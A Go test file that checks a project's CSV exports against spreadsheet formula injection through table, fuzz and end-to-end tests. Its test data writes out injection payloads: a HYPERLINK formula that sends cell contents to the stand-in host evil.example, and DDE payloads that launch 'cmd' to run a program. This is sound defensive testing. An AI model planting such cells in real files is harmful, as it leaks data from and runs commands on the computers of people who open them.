package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/athar-project/athar/internal/access"
	"github.com/athar-project/athar/internal/model"
	"github.com/athar-project/athar/internal/store"
	"github.com/athar-project/athar/internal/store/storetest"
)

// unsafeCell reports a cell a spreadsheet would run as a formula.
func unsafeCell(c string) bool {
	t := strings.TrimLeft(c, " ")
	return t != "" && (strings.ContainsRune("=+-@\t\r\n", rune(t[0])) || strings.HasPrefix(t, "＝") || strings.HasPrefix(t, "＋") ||
		strings.HasPrefix(t, "－") || strings.HasPrefix(t, "＠"))
}

// unescape is what a reader does to get a value back: drop the apostrophe
// SafeCell added.
func unescape(c string) string {
	if strings.HasPrefix(c, "'") && formulaStart(c[1:]) {
		return c[1:]
	}
	return c
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example","x")`: `'=HYPERLINK("http://evil.example","x")`,
		"@SUM(1+1)":                             "'@SUM(1+1)",
		"+1-555":                                "'+1-555",
		"-2+3":                                  "'-2+3",
		"\t=1":                                  "'\t=1",
		"\r=1":                                  "'\r=1",
		"  =1":                                  "'  =1",
		"＝1+1":                                  "'＝1+1",
		"'=1":                                   "''=1",
		"'Abd al-Rahman":                        "'Abd al-Rahman",
		"Sednaya":                               "Sednaya",
		"صيدنايا":                               "صيدنايا",
		"2012-03-04":                            "2012-03-04",
		"a=b":                                   "a=b",
		"":                                      "",
	} {
		got := SafeCell(in)
		if got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
		if unescape(got) != in {
			t.Errorf("a reader gets %q back from %q, not %q", unescape(got), got, in)
		}
	}
}

func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"=1", "'", "''=", " @x", "-", "text", "＝", "'\t"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := SafeCell(s)
		if unsafeCell(got) {
			t.Fatalf("SafeCell(%q) = %q still starts a formula", s, got)
		}
		if unescape(got) != s {
			t.Fatalf("SafeCell(%q) = %q reads back as %q", s, got, unescape(got))
		}
		var buf bytes.Buffer
		w := newCellWriter(&buf)
		if err := w.Write([]string{s, "x"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		rec, err := csv.NewReader(&buf).Read()
		if err != nil || len(rec) != 2 || unsafeCell(rec[0]) {
			t.Fatalf("written %q, read %q (%v)", s, rec, err)
		}
	})
}

// TestCSVExportsRunNoFormula is issue 18's finding: a source titled
// =HYPERLINK(...) or published by @SUM(...), or a name a spreadsheet reads
// as a formula, landed as such in sources.csv and export csv. Every cell of
// every CSV file of both exports is read back and none starts a formula.
func TestCSVExportsRunNoFormula(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, st *store.Store) {
		ctx := context.Background()
		evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"}
		err := st.Write(ctx, "test", func(tx *store.Tx) error {
			src := model.Source{Kind: model.KindArticle, Title: evil[0], Publisher: evil[1], URL: "https://news.example/x", Language: "en",
				Published: model.DayDate(2025, 1, 3), Text: "A report written for this test.", Sensitivity: model.Public}
			if err := tx.AddSource(ctx, &src, []byte(src.Text)); err != nil {
				return err
			}
			e, err := tx.AddEntity(ctx, model.TypePerson)
			if err != nil {
				return err
			}
			for i, v := range evil {
				prop := model.PropAlias
				if i == 0 {
					prop = model.PropName
				}
				if err := tx.AddStatement(ctx, &model.Statement{EntityID: e.ID, Property: prop, Value: v, SourceID: src.ID, Origin: "manual",
					Status: model.StatusConfirmed, Span: model.Span{Start: 0, End: 8, Quote: evil[2]}}); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		full, pub := filepath.Join(t.TempDir(), "csv"), filepath.Join(t.TempDir(), "public")
		if err := WriteCSV(ctx, st, access.Operator(), Options{}, full); err != nil {
			t.Fatal(err)
		}
		if err := Public(ctx, st, pub); err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, dir := range []string{full, pub} {
			files, _ := filepath.Glob(filepath.Join(dir, "*.csv"))
			if len(files) == 0 {
				t.Fatalf("no CSV in %s", dir)
			}
			for _, f := range files {
				b, err := os.ReadFile(f)
				if err != nil {
					t.Fatal(err)
				}
				rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
				if err != nil {
					t.Fatalf("%s: %v", f, err)
				}
				for _, row := range rows {
					for _, cell := range row {
						if unsafeCell(cell) {
							t.Errorf("%s: cell %q starts a formula", filepath.Base(f), cell)
						}
						seen[unescape(cell)] = true
					}
				}
			}
		}
		for _, v := range evil {
			if !seen[strings.ReplaceAll(v, "\r", "\n")] && !seen[v] {
				t.Errorf("%q is not in the exports at all", v)
			}
		}
	})
}
